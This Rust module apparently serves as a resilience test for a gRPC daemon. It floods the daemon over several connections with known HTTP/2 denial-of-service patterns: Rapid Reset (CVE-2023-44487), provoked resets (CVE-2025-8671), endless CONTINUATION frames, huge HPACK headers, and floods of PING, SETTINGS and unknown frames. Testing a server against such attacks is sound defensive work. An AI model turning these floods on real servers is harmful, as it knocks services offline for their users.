//! Frames that cost the daemon more than who sends them: a number of them over a few connections, until it cuts these off.

use std::net::SocketAddr;

use futures_util::future::join_all;

use super::{
    ATTACKERS,
    frames::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADERS, PING, PRIORITY, REMEMBERED_AGAIN, RST_STREAM, SETTINGS,
        WINDOW_UPDATE, head, literal, remembered,
    },
};

/// What one connection sends at most.
const FRAMES: u32 = 4_000;
/// Sent at once.
const BURST: u32 = 50;
/// The largest frame that the daemon takes.
pub(super) const FRAME_BYTES_MAX: usize = 16 << 10;
/// Error code of RST_STREAM.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Several connections at once; the frames that were taken of all of them.
pub(super) async fn flood<A: Future<Output = Frames>>(address: SocketAddr, attack: impl Fn(Frames) -> A) -> u64 {
    let attacks = (0..ATTACKERS).map(|_| async { attack(Frames::connect(address).await).await.sent });
    join_all(attacks).await.into_iter().sum()
}

/// Again and again, until the daemon takes no more.
async fn repeat(mut frames: Frames, add: impl Fn(&mut Frames)) -> Frames {
    for _ in 0..FRAMES / BURST {
        (0..BURST).for_each(|_| add(&mut frames));
        if !frames.send().await {
            break;
        }
    }
    frames
}

/// CVE-2023-44487: calls that are given up as soon as they are made.
pub(super) async fn reset_calls(frames: Frames) -> Frames {
    repeat(frames, |frames| {
        let stream = frames.call("Save");
        frames.frame(RST_STREAM, 0, stream, &CANCEL);
    })
    .await
}

/// CVE-2025-8671: calls that the daemon has to reset.
pub(super) async fn provoke_resets(frames: Frames) -> Frames {
    repeat(frames, |frames| {
        let stream = frames.call("Save");
        frames.frame(WINDOW_UPDATE, 0, stream, &[0; 4]);
    })
    .await
}

/// RUSTSEC-2026-0258: messages of calls that never come, in frames of nothing; and of padding alone.
pub(super) async fn send_nothing(mut frames: Frames) -> Frames {
    const PADDED: u8 = 8;
    let calls = ["Save", "SaveStream", "Load"].map(|method| frames.call(method));
    repeat(frames, |frames| {
        for stream in calls {
            frames.frame(DATA, 0, stream, &[]);
            frames.frame(DATA, PADDED, stream, &[0]);
        }
    })
    .await
}

/// RUSTSEC-2024-0332: headers that never end.
pub(super) async fn continue_for_ever(mut frames: Frames) -> Frames {
    let stream = frames.next_stream();
    frames.frame(HEADERS, END_STREAM, stream, &head("Save"));
    repeat(frames, |frames| {
        frames.frame(CONTINUATION, 0, stream, &literal("more", b"and more"));
        frames.frame(CONTINUATION, 0, stream, &[]);
    })
    .await
}

/// Headers of a megabyte: as text in many frames, and as a remembered one that is named as often as a frame has bytes.
pub(super) async fn send_huge_headers(mut frames: Frames) -> Frames {
    /// As much as HPACK remembers.
    const REMEMBERED_BYTES: usize = 3_900;
    const CALLS: usize = 32;
    const TEXTS: usize = 64;
    for _ in 0..CALLS {
        let stream = frames.next_stream();
        frames.frame(HEADERS, END_STREAM, stream, &head("Save"));
        for _ in 1..TEXTS {
            frames.frame(CONTINUATION, 0, stream, &literal("filler", &[b'x'; FRAME_BYTES_MAX - 16]));
        }
        frames.frame(CONTINUATION, END_HEADERS, stream, &literal("last", b"x"));
        let stream = frames.next_stream();
        let block = [head("Save"), remembered("filler", &[b'x'; REMEMBERED_BYTES])].concat();
        frames.frame(HEADERS, END_STREAM, stream, &block);
        frames.frame(CONTINUATION, END_HEADERS, stream, &[REMEMBERED_AGAIN; FRAME_BYTES_MAX]);
        if !frames.send().await {
            break;
        }
    }
    frames
}

/// What has to be answered or is to be remembered, and belongs to no call; and answers that nobody asked for, of which h2 warns each
/// time: nothing of it is logged.
pub(super) async fn ask_for_answers(frames: Frames) -> Frames {
    /// None that anybody knows.
    const UNKNOWN: u8 = 0xfe;
    const ACK: u8 = 1;
    const TABLE_SIZE: [u8; 6] = [0, 1, 0, 0, 16, 0];
    repeat(frames, |frames| {
        frames.frame(PING, 0, 0, &[1; 8]);
        frames.frame(PING, ACK, 0, &[2; 8]);
        frames.frame(SETTINGS, 0, 0, &TABLE_SIZE);
        let stream = frames.next_stream();
        frames.frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 7]);
        frames.frame(UNKNOWN, 0, stream, &[7; 64]);
    })
    .await
}
